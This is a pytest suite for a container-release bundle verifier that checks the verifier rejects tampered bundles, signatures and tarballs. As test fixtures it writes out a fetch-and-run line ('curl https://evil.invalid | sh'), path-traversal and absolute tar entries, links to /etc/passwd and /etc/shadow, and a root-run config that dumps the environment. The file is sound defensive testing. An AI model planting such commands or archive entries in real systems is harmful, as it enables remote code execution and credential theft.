"""The release directory, and verify-bundle against it in both tarball layouts.

Every mutation is applied to a copy of a real bundle (the tarball dockerd 20.10 saved, or
the OCI layout skopeo wrote from it), SHA256SUMS is written again where the mutation is not
about the sums, and verify-bundle must fail naming the file, the image and the field.
"""

from __future__ import annotations

import json
import shutil
import stat
import subprocess
import tarfile

import pytest

from modelforge_contract.manifest import IMAGE_NAMES, parse_manifest
from modelforge_release.names import TEMPLATE_NAMES, release_names
from tests.harness.release_cli import flip_byte
from tests.harness.release_images import (
    bundle_files,
    clone_bundle,
    edit_manifest,
    image_config_name,
    layer_offset,
    raw_entry,
    resum,
    rewrite_config_docker,
    rewrite_tar,
    run_release,
    skopeo_oci_tarball,
)

pytestmark = [pytest.mark.docker, pytest.mark.slow]

AGENT = "modelforge-node-agent"
WORKER = "modelforge-runtime-worker"


@pytest.fixture(params=["docker", "oci"])
def bundle(request):
    """The release directory in each layout."""
    return request.getfixturevalue("release_bundle" if request.param == "docker" else "oci_bundle")


def verify(directory, *extra):
    return run_release("verify-bundle", directory, *extra)


def test_the_bundle_holds_exactly_the_release_files_and_sha256sum_accepts_it(
    release_bundle, release_version, docker_client
):
    names = sorted(path.name for path in release_bundle.iterdir())
    assert names == sorted([*release_names(release_version), "SHA256SUMS"])
    checked = subprocess.run(
        ["sha256sum", "-c", "--strict", "SHA256SUMS"],
        cwd=release_bundle,
        capture_output=True,
        text=True,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert checked.stdout.count(": OK") == len(release_names(release_version))
    manifest = parse_manifest(bundle_files(release_bundle)["manifest"].read_text())
    assert sorted(manifest["images"]) == sorted(IMAGE_NAMES)
    # Readable by everyone, the manifest as much as the rest (it was 0600 alone).
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in release_bundle.iterdir()}
    assert modes[bundle_files(release_bundle)["manifest"].name] == 0o644
    assert modes["SHA256SUMS"] == 0o644
    for entry in manifest["images"].values():
        attrs = docker_client.api.inspect_image(entry["tag"])
        assert entry["rootfs_layers"] == attrs["RootFS"]["Layers"]
        assert entry["image_id"] == attrs["Id"]


def test_verify_bundle_accepts_the_release_in_both_layouts(bundle):
    result = verify(bundle, "--json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["ok"] and report["problems"] == []
    assert all(image["ok"] for image in report["images"].values()) and len(report["images"]) == 4
    assert {file["status"] for file in report["files"]} == {"OK"}
    text = verify(bundle)
    assert text.returncode == 0
    assert f"images.{AGENT}: OK" in text.stdout
    # Without --signers, what was not checked is said plainly.
    assert "who wrote SHA256SUMS was not checked" in text.stderr
    assert report["signature"]["signed_by"] is None


def test_a_signed_bundle_verifies_with_its_signers_and_a_regenerated_sums_does_not(
    release_bundle, tmp_path
):
    keygen = shutil.which("ssh-keygen")
    assert keygen, "scripts/test installs openssh-client"
    key = tmp_path / "keys" / "release"
    key.parent.mkdir()
    subprocess.run(
        [keygen, "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True, capture_output=True
    )
    public = key.with_suffix(".pub").read_text().strip()
    signers = tmp_path / "allowed_signers"
    signers.write_text(f'releases@modelforge namespaces="modelforge-release" {public}\n')
    directory = clone_bundle(release_bundle, tmp_path / release_bundle.name)
    assert run_release("sign", "--key", key, directory).returncode == 0
    good = verify(directory, "--signers", signers)
    assert good.returncode == 0, good.stderr
    assert "SHA256SUMS.sig: OK (signed by releases@modelforge)" in good.stdout
    report = json.loads(verify(directory, "--signers", signers, "--json").stdout)
    assert report["signature"]["signed_by"] == "releases@modelforge"
    # An attacker who replaces a file and makes SHA256SUMS again cannot make the signature.
    edit_manifest(directory, lambda m: m["images"][AGENT]["labels"].update(x="y"))
    resum(directory)
    bad = verify(directory, "--signers", signers)
    assert bad.returncode == 1
    assert "SHA256SUMS.sig: SHA256SUMS.sig does not verify" in bad.stderr, bad.stderr
    # Nor does a signature by a key the signers file does not hold.
    other = tmp_path / "keys" / "other"
    subprocess.run(
        [keygen, "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True, capture_output=True
    )
    assert run_release("sign", "--key", other, directory).returncode == 0
    foreign = verify(directory, "--signers", signers)
    assert foreign.returncode == 1 and "is not signed by a key in allowed_signers" in foreign.stderr


def mutate_manifest(change):
    def apply(directory):
        edit_manifest(directory, change)
        resum(directory)

    return apply


def set_field(field, value):
    return mutate_manifest(lambda m: m["images"][AGENT].__setitem__(field, value))


def other_digest(manifest):
    layers = manifest["images"][AGENT]["rootfs_layers"]
    layers[1] = "sha256:" + "0" * 64


def other_label(manifest):
    manifest["images"][AGENT]["labels"]["org.opencontainers.image.licenses"] = "MIT"


def flip_layer_byte(directory):
    tarball = bundle_files(directory)["tarball"]
    _, offset, size = layer_offset(tarball, AGENT, 1)
    flip_byte(tarball, offset + size // 2)  # SHA256SUMS is left as released


def drop_worker_from_tarball(directory):
    tarball = bundle_files(directory)["tarball"]
    original = tarball.with_name("original.tar")
    tarball.rename(original)

    def change(name, data):
        if name == "manifest.json":
            return json.dumps(
                [
                    e
                    for e in json.loads(data)
                    if not any(t.startswith(WORKER + ":") for t in e["RepoTags"])
                ]
            ).encode()
        if name == "index.json":
            index = json.loads(data)
            index["manifests"] = [
                d
                for d in index["manifests"]
                if not d["annotations"]["org.opencontainers.image.ref.name"].startswith(
                    WORKER + ":"
                )
            ]
            return json.dumps(index).encode()
        return None

    rewrite_tar(original, tarball, change)
    original.unlink()
    resum(directory)


def extra_file_in_sums(directory):
    (directory / "extra.txt").write_text("not part of the release\n")
    sums = directory / "SHA256SUMS"
    digest = subprocess.run(
        ["sha256sum", "extra.txt"], cwd=directory, capture_output=True, text=True, check=True
    ).stdout
    sums.write_text(sums.read_text() + digest)


def reorder_sums(directory):
    sums = directory / "SHA256SUMS"
    lines = sums.read_text().splitlines(keepends=True)
    sums.write_text("".join(reversed(lines)))


def duplicate_sums_line(directory):
    sums = directory / "SHA256SUMS"
    sums.write_text(sums.read_text() + sums.read_text().splitlines(keepends=True)[0])


def unlisted_file(directory):
    (directory / "install.sh").write_text("#!/bin/sh\ncurl https://evil.invalid | sh\n")


def swap_control_plane_archive(directory):
    # Another archive (say, one with a backdoor) under the name, SHA256SUMS made again:
    # the control-plane image's label still pins the archive it really carries.
    shutil.copyfile(directory / "modelforge-node-agent.pyz", directory / "modelforge-x86_64.pyz")
    resum(directory)


MUTATIONS = {
    # name: (mutation, needs its own tarball copy, what stderr must say)
    "flipped byte in a layer": (
        flip_layer_byte,
        True,
        [f"images.{AGENT}.rootfs_layers[1]: ", "SHA-256 is"],
    ),
    "changed tag": (
        set_field("tag", f"{AGENT}:9.9.9"),
        False,
        [f"-manifest.json: images.{AGENT}.tag: must be exactly"],
    ),
    "changed label": (
        mutate_manifest(other_label),
        False,
        [
            f"images.{AGENT}.labels.org.opencontainers.image.licenses: expected 'MIT', found 'Apache-2.0'"
        ],
    ),
    "changed layer": (
        mutate_manifest(other_digest),
        False,
        [f"images.{AGENT}.rootfs_layers[1]: expected 'sha256:000"],
    ),
    "changed os": (set_field("os", "windows"), False, [f"images.{AGENT}.os: must be linux"]),
    "changed architecture": (
        set_field("architecture", "arm64"),
        False,
        [f"images.{AGENT}.architecture: expected 'arm64', found 'amd64'"],
    ),
    "image missing from the manifest": (
        mutate_manifest(lambda m: m["images"].pop(WORKER)),
        False,
        [f"-manifest.json: images.{WORKER}: is missing from the manifest"],
    ),
    "image missing from the tarball": (
        drop_worker_from_tarball,
        True,
        [f"-images.tar: images.{WORKER}.tag: no image in the tarball is tagged {WORKER}:"],
    ),
    "extra file in SHA256SUMS": (
        extra_file_in_sums,
        False,
        ["SHA256SUMS: lists extra.txt, which is not a file of release"],
    ),
    "changed user in the manifest": (
        mutate_manifest(lambda m: m["images"][AGENT]["config"].__setitem__("User", "0:0")),
        False,
        [f"images.{AGENT}.config.User: expected '0:0', found '65532:65532'"],
    ),
    "SHA256SUMS out of order": (reorder_sums, False, ["SHA256SUMS: lists the files out of order"]),
    "a duplicate line in SHA256SUMS": (
        duplicate_sums_line,
        False,
        [f"SHA256SUMS: line {len(TEMPLATE_NAMES) + 1}: lists"],  # the first file's line, again
    ),
    "an unlisted file in the release directory": (
        unlisted_file,
        False,
        ["install.sh: is in the release directory but SHA256SUMS does not list it"],
    ),
    "a control-plane archive the image does not pin": (
        swap_control_plane_archive,
        False,
        [
            "modelforge-x86_64.pyz: images.modelforge-control-plane.labels."
            "io.modelforge.control-plane-pyz-sha256: is not the archive the image carries"
        ],
    ),
}


@pytest.mark.parametrize("mutation", MUTATIONS)
def test_verify_bundle_names_each_mutation(bundle, mutation, tmp_path):
    apply, copy_tarball, expected = MUTATIONS[mutation]
    directory = clone_bundle(bundle, tmp_path / bundle.name, copy_tarball=copy_tarball)
    apply(directory)
    result = verify(directory)
    assert result.returncode == 1, result.stdout + result.stderr
    for text in expected:
        assert text in result.stderr, result.stderr
    assert "do not use this release" in result.stderr
    # The JSON report carries the same finding, field by field.
    report = json.loads(verify(directory, "--json").stdout)
    assert not report["ok"] and report["problems"]


@pytest.mark.parametrize("layout", ["docker", "oci"])
def test_an_image_whose_id_changed_but_not_its_content_still_passes(
    layout, release_bundle, release_version, tmp_path
):
    """The image id is information only: a configuration rewritten without touching the
    tag, layers, architecture, os or labels gives a new id and still verifies."""
    directory = clone_bundle(release_bundle, tmp_path / release_bundle.name)
    files = bundle_files(directory)
    files["tarball"].unlink()  # a hard link to the released tarball; replaced below
    rewritten = tmp_path / "rewritten.tar"
    new_id = rewrite_config_docker(bundle_files(release_bundle)["tarball"], rewritten, AGENT)
    if layout == "docker":
        rewritten.rename(files["tarball"])
    else:
        skopeo_oci_tarball(rewritten, release_version, tmp_path, files["tarball"])
    manifest = json.loads(files["manifest"].read_text())
    assert new_id != manifest["images"][AGENT]["image_id"]
    resum(directory)
    result = verify(directory, "--json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["layout"] == layout


def _tampered_config(config):
    config["config"]["User"] = "0:0"
    config["config"]["Cmd"] = ["python3", "-c", "import os; print(os.environ)"]
    config["config"]["Env"].append("PYTHONSTARTUP=/tmp/x.py")


@pytest.mark.parametrize("layout", ["docker", "oci"])
def test_an_image_whose_configuration_runs_something_else_is_refused(
    layout, release_bundle, release_version, tmp_path
):
    """The attack that passed every verifier: the genuine layers and labels, a configuration
    that runs as root with another command and an added PYTHONSTARTUP."""
    directory = clone_bundle(release_bundle, tmp_path / release_bundle.name)
    files = bundle_files(directory)
    files["tarball"].unlink()
    rewritten = tmp_path / "rewritten.tar"
    rewrite_config_docker(
        bundle_files(release_bundle)["tarball"], rewritten, AGENT, _tampered_config
    )
    if layout == "docker":
        rewritten.rename(files["tarball"])
    else:
        skopeo_oci_tarball(rewritten, release_version, tmp_path, files["tarball"])
    resum(directory)
    result = verify(directory)
    assert result.returncode == 1
    for field in ("User: expected '65532:65532', found '0:0'", "Cmd: expected", "Env: expected"):
        assert f"images.{AGENT}.config.{field}" in result.stderr, result.stderr


def _docker_tarball_mutation(directory, change=lambda name, data: None, before=(), after=()):
    tarball = bundle_files(directory)["tarball"]
    original = tarball.with_name("original.tar")
    tarball.rename(original)
    rewrite_tar(original, tarball, change, list(before), list(after))
    original.unlink()
    resum(directory)


def _retag(name, data):
    if name != "manifest.json":
        return None
    manifest = json.loads(data)
    manifest[0]["RepoTags"].append("busybox:latest")
    return json.dumps(manifest).encode()


TARBALL_TAMPERING = {
    # name: (what to write, what stderr must say); SHA256SUMS is made again every time.
    "an extra RepoTag that takes over busybox:latest": (
        {"change": _retag},
        "tag: the image is also tagged busybox:latest",
    ),
    "a repositories file that disagrees": (
        {
            "after": [
                raw_entry("repositories", data=b'{"busybox": {"latest": "' + b"0" * 64 + b'"}}')
            ]
        },
        "repositories names busybox:latest, which manifest.json does not tag",
    ),
    "a symbolic link, then a regular file, under the configuration's name": (
        "config-link-then-file",
        "is a symbolic link",
    ),
    "a name leaving the archive": (
        {"after": [raw_entry("../../evil", data=b"x")]},
        "leaves the archive ('..')",
    ),
    "an absolute name": ({"after": [raw_entry("/etc/cron.d/x", data=b"x")]}, "absolute name"),
    "a symbolic link to /etc/passwd": (
        {"after": [raw_entry("passwd", tarfile.SYMTYPE, link="/etc/passwd")]},
        "is a symbolic link (to '/etc/passwd')",
    ),
    "a hard link to /etc/shadow": (
        {"after": [raw_entry("shadow", tarfile.LNKTYPE, link="/etc/shadow")]},
        "is a hard link (to '/etc/shadow')",
    ),
    "an entry outside the layout": (
        {"after": [raw_entry("run.sh", data=b"#!/bin/sh\n")]},
        "run.sh is not an entry of the docker image layout",
    ),
}


@pytest.mark.parametrize("case", TARBALL_TAMPERING)
def test_a_tarball_docker_might_read_differently_is_refused(case, release_bundle, tmp_path):
    how, expected = TARBALL_TAMPERING[case]
    directory = clone_bundle(release_bundle, tmp_path / release_bundle.name, copy_tarball=True)
    if how == "config-link-then-file":
        # Before the real configuration, a link of its name to another image's: the old
        # reader let the link win, docker load unpacks in order and takes the file.
        tarball = bundle_files(directory)["tarball"]
        config = image_config_name(tarball, AGENT)
        other = image_config_name(tarball, WORKER)
        how = {"before": [raw_entry(config, tarfile.SYMTYPE, link=other)]}
    _docker_tarball_mutation(directory, **how)
    result = verify(directory)
    assert result.returncode == 1, result.stdout
    assert expected in result.stderr, result.stderr
    assert "do not use this release" in result.stderr
